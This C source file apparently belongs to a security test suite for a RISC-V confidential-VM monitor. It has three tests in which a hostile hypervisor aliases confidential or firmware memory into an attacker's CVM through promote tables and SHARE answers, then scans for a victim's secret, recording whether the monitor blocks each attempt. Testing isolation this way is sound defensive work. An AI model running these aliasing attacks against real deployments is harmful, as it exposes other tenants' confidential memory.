/*
 * Page aliasing: the hypervisor hands the monitor addresses that are not its own, in
 * the tables promote copies from and in the answer to a CVM's SHARE request, and a CVM
 * it controls looks at what it got. The attacker does not know where the victim's
 * pages are, so it aims at a window at the start of confidential memory, where the
 * first CVM of a boot lands, and the agent searches the window for the victim's secret.
 */
#include "atk.h"
#include "cove.h"
#include "sbi.h"

#define SUPERPAGE 0x200000UL
#define ALIAS_GPA 0x50000000UL
#define ALIAS_PAGES 2 /* 2 MiB leaves: 4 MiB of confidential memory */
#define SHARE_LEN 0x40000UL /* the most one SHARE may ask for */
#define MONITOR_BASE 0x80000000UL

static void promote_result(struct atk_report *r, long err, const struct atk_cvm *c)
{
	if (err) {
		ev(r, "promote refused the tables (");
		ev_err(r, err);
		ev(r, ")");
	} else {
		ev(r, "promote accepted the tables as TVM ");
		ev_dec(r, c->id);
	}
}

enum atk_verdict atk_promote_alias_cvm(struct atk_report *r)
{
	if (!atk_victim()) {
		ev(r, "the victim CVM did not start");
		return ATK_ERROR;
	}
	struct atk_leaf leaves[ALIAS_PAGES];
	for (unsigned i = 0; i < ALIAS_PAGES; i++)
		leaves[i] = (struct atk_leaf){ ALIAS_GPA + i * SUPERPAGE,
					       atk_env.conf_base + i * SUPERPAGE, SUPERPAGE };
	struct atk_cvm c;
	long err = atk_promote(&c, 1, leaves, ALIAS_PAGES);
	promote_result(r, err, &c);
	if (err)
		return err == SBI_ERR_INVALID_ADDRESS ? ATK_BLOCKED : ATK_ERROR;
	struct atk_exit e;
	unsigned long len = ALIAS_PAGES * SUPERPAGE;
	bool ok = atk_drive(&c, 0, 0, 0, &e) == STOP_NEXT &&
		  atk_command(&c, 0, AGENT_CMD_SCAN, ALIAS_GPA, &len, 1, &e) == STOP_NEXT;
	if (ok && e.p[1]) {
		ev(r, "; the attacker's CVM found ");
		ev_hex(r, e.p[3]);
		ev(r, secret_is(e.p[3]) ? " (the victim's secret)" : "");
		ev(r, " at GPA ");
		ev_hex(r, e.p[2]);
	} else {
		ev(r, ok ? "; no secret in the copy" : "; the attacker's CVM did not report");
	}
	atk_destroy(&c);
	return ATK_SUCCEEDED; /* confidential memory was copied into the attacker's CVM */
}

enum atk_verdict atk_promote_alias_monitor(struct atk_report *r)
{
	struct atk_leaf leaf = { ALIAS_GPA, MONITOR_BASE, 0x1000 };
	struct atk_cvm c;
	long err = atk_promote(&c, 1, &leaf, 1);
	promote_result(r, err, &c);
	if (err)
		return err == SBI_ERR_INVALID_ADDRESS ? ATK_BLOCKED : ATK_ERROR;
	struct atk_exit e;
	if (atk_drive(&c, 0, 0, 0, &e) == STOP_NEXT &&
	    atk_command(&c, 0, AGENT_CMD_READ, ALIAS_GPA, NULL, 0, &e) == STOP_NEXT) {
		ev(r, "; hypervisor received ");
		ev_hex(r, e.p[1]);
		if (atk_env.monitor_word && e.p[1] == atk_env.monitor_word)
			ev(r, ", the firmware image's first doubleword");
	}
	atk_destroy(&c);
	return ATK_SUCCEEDED;
}

enum atk_verdict atk_share_foreign_page(struct atk_report *r)
{
	if (!atk_victim()) {
		ev(r, "the victim CVM did not start");
		return ATK_ERROR;
	}
	struct atk_cvm c;
	if (!atk_start(&c, 1, NULL, 0)) {
		ev(r, "the attacker's CVM did not start");
		return ATK_ERROR;
	}
	c.share_answer = atk_env.conf_base;
	struct atk_exit e;
	unsigned long args[2] = { SHARED_GPA, SHARE_LEN };
	enum atk_verdict v = ATK_ERROR;
	if (atk_command(&c, 0, AGENT_CMD_COVG, COVG_SHARE_MEMORY_REGION, args, 2, &e) == STOP_NEXT) {
		long err = (long)e.p[1];
		ev(r, "share answered with ");
		ev_err(r, err);
		ev(r, " for host address ");
		ev_hex(r, c.share_answer);
		v = err == SBI_ERR_INVALID_ADDRESS ? ATK_BLOCKED : ATK_ERROR;
		if (err == 0) {
			v = ATK_SUCCEEDED;
			unsigned long len = SHARE_LEN;
			if (atk_command(&c, 0, AGENT_CMD_SCAN, SHARED_GPA, &len, 1, &e) == STOP_NEXT && e.p[1]) {
				ev(r, "; the attacker's CVM found ");
				ev_hex(r, e.p[3]);
				ev(r, secret_is(e.p[3]) ? " (the victim's secret)" : "");
			}
		}
	} else {
		ev(r, "the share request did not complete");
	}
	atk_destroy(&c);
	return v;
}
